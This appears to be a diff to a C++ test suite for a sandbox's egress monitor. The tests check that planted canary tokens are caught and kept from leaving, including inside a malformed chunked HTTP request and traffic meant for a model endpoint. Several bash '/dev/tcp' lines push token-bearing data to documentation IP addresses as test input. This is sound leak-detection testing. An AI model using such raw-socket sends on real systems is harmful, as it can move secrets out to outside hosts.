@@ -2,8 +2,10 @@
 // sunk, relayed, simulated and asked of name servers; beside each the same with another token,
 // which nobody planted.
 #include <gtest/gtest.h>
+#include <sys/socket.h>
 #include <unistd.h>
 
+#include <cstdlib>
 #include <map>
 #include <set>
 
@@ -209,12 +211,27 @@ TEST_F(CanaryTest, AreFoundBehindTheEndOfAService) {
       {"192.0.2.80", 80,
        "POST /hello HTTP/1.1\\r\\nHost: web.example\\r\\nExpect: nothing\\r\\n"
        "Content-Length: 99\\r\\n\\r\\n"}};
-  auto say = [this](const End& end, const std::string& with, const std::string& after) {
-    return run_argv({"/bin/bash", "-c",
-                     R"(exec 3<>"/dev/tcp/$1/$2" && printf %b "$3" >&3 && timeout 5 cat <&3 && )"
-                     R"(printf %s "$4" >&3)",
-                     "say", end.address, std::to_string(end.port), end.bytes + with, after})
-        .output;
+  // The gateway reads on for 2 s. Where a busy machine took as long for all of it, nobody knows
+  // whether the last of it came in time, and it is said once more.
+  constexpr int most_ms = 1900;
+  std::map<std::string, int> late;  // by destination
+  auto say = [&](const End& end, const std::string& with, const std::string& after) {
+    for (int attempt = 0; attempt < 10; ++attempt) {
+      std::string said =
+          run_argv({"/bin/bash", "-c",
+                    R"(start=$EPOCHREALTIME; exec 3<>"/dev/tcp/$1/$2" && printf %b "$3" >&3 && )"
+                    R"(timeout 5 cat <&3 && printf %s "$4" >&3; end=$EPOCHREALTIME; echo; )"
+                    R"(echo $(((${end/[.,]/} - ${start/[.,]/}) / 1000)))",
+                    "say", end.address, std::to_string(end.port), end.bytes + with, after})
+              .output;
+      const std::size_t line = said.rfind('\n', said.size() - 2);
+      const int took = std::atoi(said.c_str() + line + 1);
+      said.resize(line);
+      if (after.empty() || took < most_ms) return said;
+      ++late[std::string(end.address) + (after == planted ? " hit" : " kept")];
+    }
+    ADD_FAILURE() << "ten attempts took too long";
+    return std::string();
   };
   for (const End& end : ends)
     for (const char* one : {planted, other}) {
@@ -231,9 +248,12 @@ TEST_F(CanaryTest, AreFoundBehindTheEndOfAService) {
           "'; sleep 1) | timeout 5 openssl s_client -quiet -connect 192.0.2.80:443 "
           "-servername web.example 2>/dev/null");
   EXPECT_EQ(stop().network_failure, "");
-  std::map<std::string, int> hits, kept;
+  std::map<std::string, int> hits, kept, refused;
   for (const Flow& flow : flows()) {
+    if (flow.http && flow.verdict == FlowVerdict::refused)
+      for (const auto& hit : flow.canaries) ++refused[hit.place];
     if (flow.protocol != network::FlowProtocol::other) continue;
+    EXPECT_EQ(flow.reason, "its service did not read this");
     const std::string to = network::to_string(flow.destination);
     EXPECT_EQ(flow.verdict, FlowVerdict::refused);
     ++kept[to + " " + flow.sent.head];
@@ -242,11 +262,61 @@ TEST_F(CanaryTest, AreFoundBehindTheEndOfAService) {
       ++hits[to];
     }
   }
-  EXPECT_EQ(hits["192.0.2.25:25"], 2);
-  EXPECT_EQ(kept["192.0.2.25:25 " + std::string(other)], 2);
-  EXPECT_EQ(hits["192.0.2.80:80"], 4);
+  auto expect = [&](int found, int wanted, const std::string& what) {
+    EXPECT_GE(found, wanted) << what;
+    EXPECT_LE(found, wanted + late[what]) << what;
+  };
+  expect(hits["192.0.2.25:25"], 2, "192.0.2.25 hit");
+  expect(kept["192.0.2.25:25 " + std::string(other)], 2, "192.0.2.25 kept");
+  // What came with the refused request is in its own flow.
+  expect(hits["192.0.2.80:80"], 3, "192.0.2.80 hit");
+  EXPECT_EQ(refused, (std::map<std::string, int>{{"malformed http request", 1}}));
   EXPECT_EQ(hits["192.0.2.80:443"], tls ? 1 : 0);
   EXPECT_EQ(kept["192.0.2.80:443 " + std::string(other)], tls ? 1 : 0);
+}
+
+// What an agent tells its model does not leave, whether the model hears it or not.
+TEST_F(CanaryTest, AreNotFoundInWhatAModelIsToldBehindTheEndEither) {
+  UniqueFd supervisor;
+  adapt_ = [&](SandboxSpec& spec) {
+    spec.outlet = [&]() -> Result<UniqueFd> {
+      int ends[2] = {-1, -1};
+      EXPECT_EQ(::socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, ends), 0);
+      supervisor.reset(ends[0]);
+      return UniqueFd(ends[1]);
+    };
+  };
+  start_world(nlohmann::json::array(), canaries);
+  const std::pair<const char*, const char*> sites[] = {{"192.0.2.80", "web.example"},
+                                                       {"192.0.2.90", "model.example"}};
+  for (const auto& [address, host] : sites) {
+    // More than the flow of what was refused keeps.
+    const std::string request = "POST / HTTP/1.1\\r\\nHost: " + std::string(host) +
+                                "\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nZZ" +
+                                std::string(5000, 'x') + planted;
+    const std::string said =
+        run_argv({"/bin/bash", "-c",
+                  R"(exec 3<>"/dev/tcp/$1/80" && printf %b "$2" >&3 && timeout 5 cat <&3)", "say",
+                  address, request})
+            .output;
+    EXPECT_NE(said.find("HTTP/1.1 400"), std::string::npos) << said;
+  }
+  EXPECT_EQ(stop().network_failure, "");
+  for (const auto& [address, host] : sites) {
+    const bool model = host == std::string("model.example");
+    std::size_t behind = 0, hits = 0;
+    for (const Flow& flow : flows_to(address, 80)) {
+      if (model) {
+        EXPECT_TRUE(flow.canaries.empty()) << flow.reason;
+      }
+      if (flow.protocol != network::FlowProtocol::other) continue;
+      ++behind;
+      EXPECT_NE(flow.sent.head.find(planted), std::string::npos);
+      hits += flow.canaries.size();
+    }
+    EXPECT_EQ(behind, 1U) << host;
+    EXPECT_EQ(hits, model ? 0U : 1U) << host;
+  }
 }
 
 }  // namespace
